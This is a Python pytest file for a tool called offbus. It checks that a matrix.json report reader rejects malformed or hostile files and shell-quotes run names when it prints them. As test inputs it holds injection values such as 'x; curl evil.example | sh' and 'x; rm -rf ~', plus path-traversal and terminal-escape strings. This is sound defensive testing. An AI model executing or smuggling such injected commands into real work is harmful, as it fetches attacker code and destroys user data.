"""matrix.json as it is read back: a file that anybody may have made."""

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from offbus.errors import UsageError
from offbus.exits import Exit
from offbus.matrix.render_text import matrix_lines
from offbus.matrix.summary import FILE, LARGEST_FILE, CellReport, MatrixReport, read_matrix_report
from offbus.open_run import OpenRun, create_folder
from offbus.report.spans import plain

CELL: dict[str, Any] = {
    "id": "n-1", "name": "x[n=1]", "inputs": {"n": 1, "s": "a", "b": True, "f": 1.5}, "state": "ended", "run": "r1",
    "folder": "/runs/x-r1", "verdict": "passed", "exit": 0, "metrics": {"requests.p95": 0.1},
}  # fmt: skip
REPORT: dict[str, Any] = {
    "matrix": "m1", "name": "x", "scenario": "x.yaml", "digest": "0" * 64, "environment": "e", "started": "t",
}  # fmt: skip


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[OpenRun]:
    with create_folder(tmp_path, "x-matrix") as made:
        yield made


def read(folder: OpenRun, *cells: dict[str, Any], **report: Any) -> MatrixReport:
    (folder.path / FILE).write_text(json.dumps({**REPORT, **report, "cells": cells}))
    return read_matrix_report(folder)


def test_what_plays_write_is_read_back(folder: OpenRun) -> None:
    found = read(folder, CELL)
    assert found.cells[0].model_dump(exclude_defaults=True) == CELL
    assert found.cells[0].passed


@pytest.mark.parametrize(
    "odd",
    [
        {"exit": 77},
        {"exit": -1},
        {"run": "x; curl evil.example | sh"},
        {"run": "a b"},
        {"run": "r" * 65},
        {"verdict": "great"},
        {"id": "w" * 64},
        {"id": "../x"},
        {"id": "\x1b]0;x\x07"},
        {"name": "n" * 10_000},
        {"because": "n" * 10_000},
        {"folder": "/" + "n" * 5000},
        {"reasons": ["n" * 10_000]},
        {"reasons": ["n"] * 100},
        {"needs_attention": ["n" * 10_000]},
        {"metrics": {"n" * 10_000: 1.0}},
        {"metrics": {f"n{n}": 1.0 for n in range(1000)}},
        {"residue": -1},
        {"inputs": {"n": {"deep": [1]}}},
        {"duration_s": -1.0},
        {"duration_s": 1e300},
    ],
)
def test_what_no_play_writes_is_no_report(folder: OpenRun, odd: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match="is no report of a matrix"):
        read(folder, {**CELL, **odd})


@pytest.mark.parametrize(
    "odd", [{"exit": 9}, {"name": "n" * 10_000}, {"scenario": "n" * 5000}, {"matrix": "a b"}]
)
def test_nor_of_the_whole(folder: OpenRun, odd: dict[str, Any]) -> None:
    with pytest.raises(UsageError, match="is no report of a matrix"):
        read(folder, CELL, **odd)


def test_one_of_many_values_is_not_parsed(folder: OpenRun) -> None:
    (folder.path / FILE).write_text('{"cells":[' + ",".join(["[]"] * (2 << 20)) + "]}")
    with pytest.raises(UsageError, match="is no report of a matrix"):
        read_matrix_report(folder)


def a_run(**data: Any) -> Any:
    """Of a report, what an entry takes from it."""

    class Ended:
        verdict, duration_s, reasons, needs_attention, residue, metrics = "failed", 1.0, (), (), (), {}

    for name, value in data.items():
        setattr(Ended, name, value)
    return Ended


class Measured:
    value = 1.0


@pytest.mark.parametrize(
    "act",
    [
        lambda cell: cell.finished(a_run(reasons=["r" * 50_000] * 50), Exit.FAILED),
        lambda cell: cell.finished(a_run(needs_attention=["\u00e4" * 50_000] * 50), Exit.PASSED),
        lambda cell: cell.finished(a_run(metrics={f"m{n}": Measured for n in range(500)}), Exit.PASSED),
        lambda cell: cell.did_not_run(Exit.COULD_NOT_RUN, "w" * 50_000),
        lambda cell: cell.not_played("w" * 50_000),
    ],
)
def test_what_a_play_writes_is_cut_to_what_is_read(
    folder: OpenRun, act: Callable[[CellReport], None]
) -> None:
    report = read(folder, CELL)
    act(report.cells[0])
    report.finish([], None)
    again = read(folder, *json.loads(report.model_dump_json())["cells"])
    assert again.cells == report.cells


def test_the_largest_that_plays_write_can_be_read(folder: OpenRun) -> None:
    report = read(folder, *[{**CELL, "id": f"n-{n}"} for n in range(4096)])
    for cell in report.cells:
        cell.finished(
            a_run(reasons=["r" * 900] * 9, metrics={f"metric.{n}": Measured for n in range(64)}), Exit.FAILED
        )
    text = report.model_dump_json(indent=2)
    assert len(text) < LARGEST_FILE
    (folder.path / FILE).write_text(text)
    assert read_matrix_report(folder) == report


def test_a_command_that_is_told_is_one_command(folder: OpenRun) -> None:
    report = read(folder, {**CELL, "exit": 4, "residue": 1}, ended="t", exit=4)
    report.cells[0].run = "x; rm -rf ~"
    told = plain(matrix_lines(report, Path("/runs/a b/matrix.json")))
    assert "offbus recover 'x; rm -rf ~'" in told
    assert "--resume '/runs/a b'" in told
